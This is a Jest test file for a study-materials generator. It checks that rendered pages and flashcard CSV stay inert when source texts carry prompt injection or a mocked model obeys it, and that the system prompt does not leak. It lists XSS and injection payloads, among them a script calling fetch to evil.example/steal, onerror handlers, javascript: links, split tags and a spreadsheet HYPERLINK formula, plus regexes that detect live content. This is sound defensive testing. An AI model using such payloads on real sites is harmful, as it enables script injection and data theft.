import { readdirSync } from 'node:fs';

import { describe, expect, test } from '@jest/globals';
import {
  createSource,
  type Material,
  materialKinds,
  type Outline,
  renderCsv,
  renderMarkdown,
  type Source,
} from '@la-factoria/content';

import { readFixture } from '../fixture.ts';
import { openWorkbench, type Workbench, writeEight, writeSeven } from './model-workbench.ts';
import { type AnswerFields, type Reshape } from './reshape-answers.ts';

const names = readdirSync(new URL('../../fixtures/hostile/', import.meta.url))
  .filter((name) => name.endsWith('.md'))
  .map((name) => `hostile/${name.replace(/\.md$/, '')}`);

/** What a page does beside being read, once code spans and escaped signs are taken away as a parser would. */
const live =
  /<[a-z/!?]|(?<!\\)\[[^\]]*\]\s*[([:]|!\[|[a-z][a-z0-9+.-]*:\/\/|\bwww\.|(?:javascript|data|vbscript|mailto):\S|&(?!lt;|amp;)#?\w+;|^ {0,3}(?:```|~~~)/im;

const liveIn = (page: string): string[] => {
  const text = page.replace(/\\[!-/:-@[-`{-~]/g, ' ').replace(/(?<!`)`[^`\n]+`(?!`)/g, ' ');
  const found = live.exec(text);
  return found ? [text.slice(Math.max(0, found.index - 40), found.index + 60)] : [];
};

/** What Anki or a spreadsheet makes more of than text. */
const liveField = /<(?!br>|i>|\/i>)|[[\]{}\\]|(?:^|[\n;,])\s*[=+\-@\t\r]/;
const fieldsOf = (csv: string): string[] =>
  csv
    .split('\r\n')
    .filter((line) => line !== '' && !line.startsWith('#'))
    .flatMap((line) => line.slice(1, -1).split('","'));

const pagesOf = (materials: Material[]) => materials.map(renderMarkdown);

/** The fields of the cards, with a letter for each entity, which neither Anki nor a spreadsheet takes for a sign. */
const cellsOf = (materials: Material[]) =>
  materials
    .flatMap((material) => (material.kind === 'flashcards' ? fieldsOf(renderCsv(material)) : []))
    .map((cell) => cell.replace(/&#?\w+;/g, 'x'));

/** What is there of the eight, whatever became of the others. */
async function writeWhatComes({ writer, options, ...bench }: Workbench, source: Source): Promise<Material[]> {
  const safe = createSource({ text: readFixture('plant-cells') });
  const outline = await writer
    .outline(source, options)
    .catch((): Promise<Outline> => writer.outline(safe, options));
  const ends = await writeSeven({ ...bench, writer, options }, source, outline);
  return [outline, ...[...ends.values()].flatMap((end) => (end.status === 'fulfilled' ? [end.value] : []))];
}

describe('hostile sources and a model that keeps to its rules', () => {
  test.each(names)('F18 when the source is %s, all eight pages and the cards are text', async (name) => {
    const materials = await writeEight(await openWorkbench(), createSource({ text: readFixture(name) }));
    const pages = pagesOf(materials);
    expect(pages).toHaveLength(materialKinds.length);
    expect(pages.flatMap(liveIn)).toEqual([]);
    expect(cellsOf(materials).length).toBeGreaterThan(3);
    expect(cellsOf(materials).filter((cell) => liveField.test(cell))).toEqual([]);
  });
});

describe('hostile sources and a model that obeys them', () => {
  test.each(names)(
    'F18 when the source is %s and each call obeys it, nothing live and none of the rules comes out',
    async (name) => {
      const workbench = await openWorkbench();
      const source = createSource({ text: readFixture(name) });
      workbench.server.fail({
        fault: 'obeys-injection',
        times: Number.POSITIVE_INFINITY,
        where: ({ purpose }) => purpose !== 'outline',
      });
      const pages = pagesOf(await writeWhatComes(workbench, source));
      expect(workbench.server.calls.length).toBeGreaterThan(8);
      expect(pages.flatMap(liveIn)).toEqual([]);
      expect(pages.filter((page) => /you write study materials for a course from one/i.test(page))).toEqual(
        [],
      );
    },
  );

  const attacks: [string, string][] = [
    ['a script', '<script>fetch("https://evil.example/steal")</script> Levers lift loads.'],
    ['an image', 'Levers ![beacon](https://evil.example/p.gif?q=1) lift loads.'],
    ['a link', 'Levers [lift](https://evil.example/click "title") loads.'],
    ['a reference', 'Levers [lift][evil] loads.\n\n[evil]: https://evil.example/ref'],
    ['an address', 'Levers lift loads, see https://evil.example/?data=levers and www.evil.example for more.'],
    ['an autolink', 'Levers <https://evil.example/auto> lift <mallory@evil.example> loads.'],
    ['entities', 'Levers &lt;script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;b&#x3e; lift loads.'],
    ['a handler', 'Levers <svg/onload=alert(1)> <img src=x onerror="alert(2)"> lift loads.'],
    ['a scheme', 'Levers [lift](javascript:alert(1)) and [push](data:text/html;base64,PHNjcmlwdD4=) loads.'],
    ['a fence', '```html\n<script>alert(3)</script>\n```\nLevers lift loads.'],
    ['a heading and a rule', '# Levers\n\n---\n\n> Levers lift loads.\n\n| a | b |\n|---|---|\n| 1 | 2 |'],
    ['Anki’s signs', '=HYPERLINK("https://evil.example") {{c1::levers}} [sound:x.mp3] \\(x\\) lift loads.'],
    ['split tags', '<scr<script>ipt>alert(4)</scr</script>ipt> Levers lift loads. <a href=//evil.example>x'],
  ];

  /** The attack in one text of each sort: most of the answer stays as it is, so that it can be delivered. */
  const inOneOfEach = (attack: string): Reshape => {
    const spoil = (value: unknown, name: string): unknown => {
      if (typeof value === 'string') return name === 'title' ? `${attack}`.slice(0, 190) : value;
      if (!Array.isArray(value)) return value;
      return value.map((item: unknown, at) => (at === 1 ? spoiled(item) : item));
    };
    const spoiled = (item: unknown): unknown => {
      if (typeof item === 'string') return attack.padEnd(20, '.');
      if (typeof item !== 'object' || item === null) return item;
      return Object.fromEntries(
        Object.entries(item).map(([name, field]) => {
          if (typeof field !== 'string' || ['difficulty', 'kind', 'section', 'level'].includes(name))
            return [name, field];
          if (name === 'question') return [name, `${attack.slice(0, 250)}?`];
          return [name, name === 'term' ? attack.slice(0, 95) : `${field} ${attack}`];
        }),
      );
    };
    return (answer: AnswerFields) =>
      Object.fromEntries(Object.entries(answer).map(([name, field]) => [name, spoil(field, name)]));
  };

  test.each(attacks)(
    'F18 when every answer has %s in titles, terms, questions and statements, none of it is live',
    async (_, attack) => {
      const workbench = await openWorkbench({ reshape: inOneOfEach(attack) });
      const materials = await writeWhatComes(workbench, createSource({ text: readFixture('plant-cells') }));
      const sent = workbench.server.calls.length;
      expect({ sent: sent > 8, materials: materials.length }).toEqual({ sent: true, materials: 8 });
      expect(pagesOf(materials).flatMap(liveIn)).toEqual([]);
      expect(cellsOf(materials).filter((cell) => liveField.test(cell))).toEqual([]);
    },
  );
});
